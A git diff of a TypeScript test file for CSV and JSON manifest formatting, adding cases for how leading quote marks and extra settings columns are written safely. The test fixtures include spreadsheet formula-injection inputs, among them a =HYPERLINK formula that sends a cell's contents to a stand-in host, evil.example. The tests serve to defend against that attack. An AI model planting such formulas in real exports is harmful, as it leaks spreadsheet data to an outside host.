@@ -90,7 +90,8 @@ describe('formatCsv with formulasAsText', () => {
     ['as text: a formula with quotes and commas', '=HYPERLINK("https://evil.example/?"&A1,"a, b")', `"'=HYPERLINK(""https://evil.example/?""&A1,""a, b"")"`],
     ['as is: formula characters after the start', 'p=a;c=-b+c@d', 'p=a;c=-b+c@d'],
     ['as is: a URL', 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da', 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da'],
-    ['as is: a leading quote mark, already text', "'=1", "'=1"],
+    ['marked once more: a leading quote mark before a formula, so it reads back with its mark', "'=1", `"''=1"`],
+    ['as is: a leading quote mark before plain text', "'plain", "'plain"],
     ['as is: empty', '', ''],
   ];
   for (const [name, value, written] of cases) {
@@ -118,24 +119,34 @@ describe('formatManifest', () => {
     shortened: ['=a'],
     dropped: [],
   };
+  // The settings columns a reprint reads back, blank here.
+  const settings = ','.repeat(19);
+  const header = '\uFEFFline,name,file,format,url,extra,shortened,dropped,channel,placement,campaign,source,page,bot,event,endpoint,template,size,dpi,px,ecc,margin,dark,light,bleed,label,caption\r\n';
   const cases: [string, ManifestEntry, string][] = [
     [
       'formulas in every cell',
       entry,
-      '\uFEFFline,name,file,format,url,extra,shortened,dropped\r\n' + `2,"'=cmd","'+x.svg",svg,"'@SUM(A1)","'-1+1","'=a",\r\n`,
+      header + `2,"'=cmd","'+x.svg",svg,"'@SUM(A1)","'-1+1","'=a",${settings}\r\n`,
     ],
     [
       'an ordinary row',
       { ...entry, name: 'poster_a', file: 'poster_a.svg', url: 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a', extra: 'p=-a', shortened: [] },
-      '\uFEFFline,name,file,format,url,extra,shortened,dropped\r\n' + '2,poster_a,poster_a.svg,svg,https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a,p=-a,,\r\n',
+      header + `2,poster_a,poster_a.svg,svg,https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a,p=-a,,${settings}\r\n`,
+    ],
+    [
+      'the settings a reprint reads back, a channel written as text',
+      { ...entry, name: 'poster_a', file: 'poster_a.svg', url: 'u', extra: '', shortened: [], settings: { channel: '@brand', placement: 'poster_a', bleed: '3mm' } },
+      header + `2,poster_a,poster_a.svg,svg,u,,,,"'@brand",poster_a,,,,,,,,,,,,,,,3mm,,\r\n`,
     ],
   ];
   for (const [name, row, csv] of cases) {
     it(`CSV for spreadsheets, no cell a formula: ${name}`, () => assert.equal(formatManifest([row], 'csv'), csv));
     it(`JSON for programs, every value exact: ${name}`, () => {
       const json = formatManifest([row], 'json');
-      assert.deepEqual(JSON.parse(json), [row]);
-      assert.equal(json, `${JSON.stringify([row], null, 2)}\n`);
+      // One flat object per code, the settings beside the rest, as in the CSV.
+      const { settings: given, ...rest } = row;
+      assert.deepEqual(JSON.parse(json), [{ ...rest, ...given }]);
+      assert.equal(json, `${JSON.stringify([{ ...rest, ...given }], null, 2)}\n`);
     });
   }
 });
